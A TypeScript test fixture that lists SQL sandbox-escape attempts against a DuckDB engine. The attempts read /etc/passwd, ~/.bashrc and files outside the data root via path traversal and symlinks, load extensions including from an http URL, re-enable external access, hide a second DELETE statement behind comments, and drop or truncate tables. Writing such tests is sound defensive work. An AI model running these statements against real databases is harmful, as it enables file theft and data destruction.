// Escape attempts against the engine a project gets, as SQL a hostile or
// careless caller could hand it. Each attempt says how it would be seen to
// succeed: the statement ran at all (writes, settings, extensions), or its
// rows hold the secret (reads).

export interface Attempt {
  readonly name: string;
  readonly sql: string;
  /**
   * How an escape would show: `ran`, the engine accepted the statement;
   * `rows`, it returned at least one row; `secret`, its rows hold the secret text.
   */
  readonly success: 'ran' | 'rows' | 'secret';
}

export interface Places {
  /** Absolute data root (real path, forward slashes). */
  readonly dataRoot: string;
  /** A file outside the data root holding the secret text. */
  readonly outside: string;
  /** A symlink inside the data root to `outside`. */
  readonly link: string;
  /** The project's own `.duckdb` file. */
  readonly database: string;
}

/** Every file-reading table function DuckDB has without extensions, and the ways to name a file. */
export function readAttempts(p: Places): Attempt[] {
  const targets = [
    ['/etc/passwd', '/etc/passwd'],
    ['outside file', p.outside],
    ['dot-dot from the root', `${p.dataRoot}/../${p.outside.split('/').pop()}`],
    ['symlink in the root', p.link],
    ['file URL', `file://${p.outside}`],
    ['home folder', '~/.bashrc'],
    ['relative to the working folder', '../../../../../../../../etc/passwd'],
    ['glob outside', `${p.outside.slice(0, p.outside.lastIndexOf('/'))}/*.csv`],
  ] as const;
  const functions = [
    'read_csv',
    'read_csv_auto',
    'read_text',
    'read_blob',
    'read_parquet',
    'parquet_scan',
    'read_json',
    'read_json_auto',
    'read_ndjson',
    'read_json_objects',
    'sniff_csv',
    'parquet_metadata',
    'parquet_schema',
    'parquet_file_metadata',
    'parquet_kv_metadata',
    'glob',
  ];
  const attempts: Attempt[] = [];
  for (const fn of functions) {
    for (const [where, path] of targets) {
      attempts.push({ name: `${fn} ${where}`, sql: `select * from ${fn}(${quote(path)})`, success: 'rows' });
    }
  }
  attempts.push(
    { name: 'replacement scan of a path', sql: `select * from ${quote(p.outside)}`, success: 'rows' },
    { name: 'replacement scan of /etc/passwd', sql: `select * from '/etc/passwd'`, success: 'rows' },
    {
      name: 'list of paths',
      sql: `select * from read_csv([${quote(`${p.dataRoot}/ok.csv`)}, ${quote(p.outside)}])`,
      success: 'secret',
    },
    {
      name: 'read_text in a CTE',
      sql: `with x as (select * from read_text(${quote(p.outside)})) select * from x`,
      success: 'rows',
    },
    {
      name: 'read_text in a scalar subquery',
      sql: `select (select content from read_text(${quote(p.outside)}))`,
      success: 'secret',
    },
    { name: 'https URL', sql: `select * from read_csv('https://example.com/data.csv')`, success: 'rows' },
    { name: 's3 URL', sql: `select * from read_parquet('s3://bucket/x.parquet')`, success: 'rows' },
    {
      name: 'query() running a read',
      sql: `select * from query(${quote(`select * from read_text(${quote(p.outside)})`)})`,
      success: 'rows',
    },
    { name: 'query_table of a path', sql: `select * from query_table(${quote(p.outside)})`, success: 'rows' },
  );
  return attempts;
}

/** Statements that write, reconfigure, load code or run several statements. */
export function writeAttempts(p: Places): Attempt[] {
  const out = `${p.dataRoot}/written.csv`;
  const other = `${p.dataRoot}/other.duckdb`;
  return [
    { name: 'COPY TO', sql: `copy (select 42) to ${quote(out)}`, success: 'ran' },
    { name: 'COPY table TO', sql: `copy customers to ${quote(out)}`, success: 'ran' },
    { name: 'COPY FROM', sql: `copy customers from ${quote(`${p.dataRoot}/ok.csv`)}`, success: 'ran' },
    { name: 'EXPORT DATABASE', sql: `export database ${quote(`${p.dataRoot}/export`)}`, success: 'ran' },
    {
      name: 'EXPORT DATABASE behind comments',
      sql: `/* a /* nested */ comment */ -- x\n export database ${quote(`${p.dataRoot}/export2`)} (format parquet)`,
      success: 'ran',
    },
    {
      name: 'COPY TO a partitioned folder',
      sql: `copy (select 1 as k) to ${quote(`${p.dataRoot}/parts`)} (format csv, partition_by (k))`,
      success: 'ran',
    },
    { name: 'ATTACH a new file', sql: `attach ${quote(other)} as other`, success: 'ran' },
    {
      name: 'ATTACH the project database read-write',
      sql: `attach ${quote(p.database)} as rw (read_only false)`,
      success: 'ran',
    },
    { name: 'ATTACH in memory', sql: `attach ':memory:' as scratch`, success: 'ran' },
    { name: 'DETACH', sql: `detach warehouse`, success: 'ran' },
    { name: 'USE', sql: `use memory`, success: 'ran' },
    { name: 'INSTALL', sql: `install httpfs`, success: 'ran' },
    { name: 'LOAD', sql: `load httpfs`, success: 'ran' },
    { name: 'LOAD a path', sql: `load ${quote(`${p.dataRoot}/evil.duckdb_extension`)}`, success: 'ran' },
    { name: 'FORCE INSTALL from a URL', sql: `force install httpfs from 'http://example.com'`, success: 'ran' },
    { name: 'SET external access', sql: `set enable_external_access = true`, success: 'ran' },
    { name: 'SET allowed directories', sql: `set allowed_directories = ['/']`, success: 'ran' },
    { name: 'SET lock off', sql: `set lock_configuration = false`, success: 'ran' },
    { name: 'SET GLOBAL', sql: `set global enable_external_access = true`, success: 'ran' },
    { name: 'RESET', sql: `reset allowed_directories`, success: 'ran' },
    { name: 'SET VARIABLE', sql: `set variable x = 1`, success: 'ran' },
    { name: 'PRAGMA', sql: `pragma enable_profiling`, success: 'ran' },
    { name: 'PRAGMA set', sql: `pragma threads = 64`, success: 'ran' },
    { name: 'CALL', sql: `call pragma_version()`, success: 'ran' },
    { name: 'CREATE TABLE', sql: `create table stolen as select 1 as x`, success: 'ran' },
    { name: 'CREATE TEMP TABLE', sql: `create temp table scratch (x int)`, success: 'ran' },
    { name: 'CREATE VIEW', sql: `create view v as select 1`, success: 'ran' },
    { name: 'CREATE MACRO', sql: `create macro m(x) as x`, success: 'ran' },
    { name: 'CREATE SECRET', sql: `create secret s (type s3, key_id 'a', secret 'b')`, success: 'ran' },
    { name: 'INSERT', sql: `insert into customers values (99, 'mallory')`, success: 'ran' },
    { name: 'UPDATE', sql: `update customers set name = 'mallory'`, success: 'ran' },
    { name: 'DELETE', sql: `delete from customers`, success: 'ran' },
    { name: 'DROP', sql: `drop table customers`, success: 'ran' },
    { name: 'ALTER', sql: `alter table customers add column x int`, success: 'ran' },
    { name: 'TRUNCATE', sql: `truncate customers`, success: 'ran' },
    { name: 'CHECKPOINT', sql: `checkpoint`, success: 'ran' },
    { name: 'VACUUM', sql: `vacuum`, success: 'ran' },
    { name: 'BEGIN', sql: `begin transaction`, success: 'ran' },
    {
      name: 'WITH ... INSERT',
      sql: `with x as (select 1) insert into customers select 100, 'x' from x`,
      success: 'ran',
    },
    { name: 'two statements', sql: `select 1; select 2`, success: 'ran' },
    { name: 'SELECT then COPY', sql: `select 1; copy (select 1) to ${quote(out)}`, success: 'ran' },
    { name: 'SELECT then SET', sql: `select 1; set enable_external_access = true`, success: 'ran' },
    { name: 'comment-hidden second statement', sql: `select 1 /* ; */ ; -- \n delete from customers`, success: 'ran' },
    {
      name: 'query() running COPY',
      sql: `select * from query(${quote(`copy (select 1) to ${quote(out)}`)})`,
      success: 'ran',
    },
    {
      name: 'query() running ATTACH',
      sql: `select * from query(${quote(`attach ${quote(other)} as o`)})`,
      success: 'ran',
    },
    { name: 'empty', sql: ``, success: 'ran' },
    { name: 'only a comment', sql: `-- nothing`, success: 'ran' },
  ];
}

/** A SQL string literal. */
export function quote(text: string): string {
  return `'${text.replaceAll("'", "''")}'`;
}
